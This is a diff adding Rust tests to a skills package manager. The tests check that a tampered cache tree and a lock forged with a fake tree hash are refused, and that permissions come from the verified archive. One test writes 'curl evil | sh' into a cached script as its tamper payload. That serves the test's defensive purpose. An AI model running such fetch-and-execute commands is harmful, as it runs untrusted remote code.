@@ -286,6 +286,113 @@ fn a_poisoned_cache_is_refused_under_frozen() {
     a_fresh_clone_installs_nothing(&ctx, &app, "--frozen");
 }
 
+/// Where the cache keeps the one unpacked tree it holds.
+fn the_cached_tree(ctx: &TestContext) -> PathBuf {
+    let trees: Vec<PathBuf> = std::fs::read_dir(ctx.root().join("cache/trees"))
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .filter(|path| !path.file_name().unwrap().to_string_lossy().starts_with('.'))
+        .collect();
+    assert_eq!(trees.len(), 1, "{trees:?}");
+    trees[0].clone()
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+#[cfg(unix)]
+fn set_mode(path: &Path, mode: u32) {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+#[test]
+#[cfg(unix)]
+fn a_tampered_tree_in_the_cache_is_never_installed() {
+    let ctx = TestContext::new();
+    let acme = Publisher::new(&ctx);
+    let index = acme.index(&ctx, "index");
+    let dir = write_skill(
+        &ctx.root().join("sources"),
+        "tool",
+        &skill_md("tool", "A tool. Use when testing."),
+    );
+    std::fs::create_dir_all(dir.join("scripts")).unwrap();
+    std::fs::write(dir.join("scripts/run.sh"), "#!/bin/sh\necho honest\n").unwrap();
+    set_mode(&dir.join("scripts/run.sh"), 0o755);
+    std::fs::write(dir.join("scripts/notes.txt"), "Read me.\n").unwrap();
+    acme.publish_dir(&ctx, &index, &dir);
+    let app = new_project(&ctx, Some(index.to_str().unwrap()));
+    ctx.ok_in(&app, &["add", "acme/tool"]);
+    let pinned = tree(&app.join(".agents/skills/tool"));
+    // The install kept an unpacked copy of the tree in the cache.
+    let cached = the_cached_tree(&ctx);
+    assert_eq!(tree(&cached), pinned);
+
+    // Someone with write access to the cache changes the script there.
+    std::fs::write(cached.join("scripts/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let clone = clone_of(&ctx, &app, "clone");
+    let out = ctx.ok_in(&clone, &["install", "--locked"]);
+    let installed = clone.join(".agents/skills/tool");
+    assert_eq!(
+        tree(&installed),
+        pinned,
+        "the pinned files, not the cache's"
+    );
+    assert!(
+        out.stderr
+            .contains("acme/tool: the cached copy of its files ("),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr
+            .contains("did not match skills.lock and was replaced from the verified archive")
+    );
+    assert_eq!(mode(&installed.join("scripts/run.sh")), 0o755);
+    // The cache holds the pinned tree again, and a later install uses it quietly.
+    assert_eq!(tree(&the_cached_tree(&ctx)), pinned);
+
+    // Permissions are not the tree hash's to check: they come from the
+    // verified archive, whatever the cached copy says.
+    set_mode(&cached.join("scripts/notes.txt"), 0o755);
+    set_mode(&cached.join("scripts/run.sh"), 0o644);
+    let again = clone_of(&ctx, &app, "again");
+    let out = ctx.ok_in(&again, &["install", "--locked"]);
+    assert!(!out.stderr.contains("cached copy"), "{}", out.stderr);
+    let installed = again.join(".agents/skills/tool");
+    assert_eq!(tree(&installed), pinned);
+    assert_eq!(mode(&installed.join("scripts/run.sh")), 0o755);
+    assert_eq!(mode(&installed.join("scripts/notes.txt")), 0o644);
+}
+
+#[test]
+fn a_lock_whose_tree_is_not_its_archives_is_refused() {
+    let ctx = TestContext::new();
+    let acme = Publisher::new(&ctx);
+    let (_, app) = locked_tool(&ctx, &acme, false);
+    // A lock edited to pin other files for the same archive, as one
+    // written to match a planted cache tree would.
+    let lock = std::fs::read_to_string(app.join("skills.lock")).unwrap();
+    let tree = regex::Regex::new(r#"tree = "h1:[^"]*""#).unwrap();
+    let forged = "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
+    let lock = tree.replace(&lock, format!("tree = \"{forged}\""));
+    let clone = clone_of(&ctx, &app, "clone");
+    std::fs::write(clone.join("skills.lock"), lock.as_bytes()).unwrap();
+    let untouched = Untouched::new(&ctx, &clone);
+    untouched.refused(
+        &ctx,
+        &["install", "--locked"],
+        &format!(
+            "acme/tool@1.0.0: skills.lock pins its files to tree {forged}, but its archive (sha256:"
+        ),
+    );
+    assert!(!clone.join(".agents/skills/tool").exists());
+}
+
 #[test]
 fn a_locked_version_re_signed_by_another_key_of_the_org_is_refused() {
     let ctx = TestContext::new();
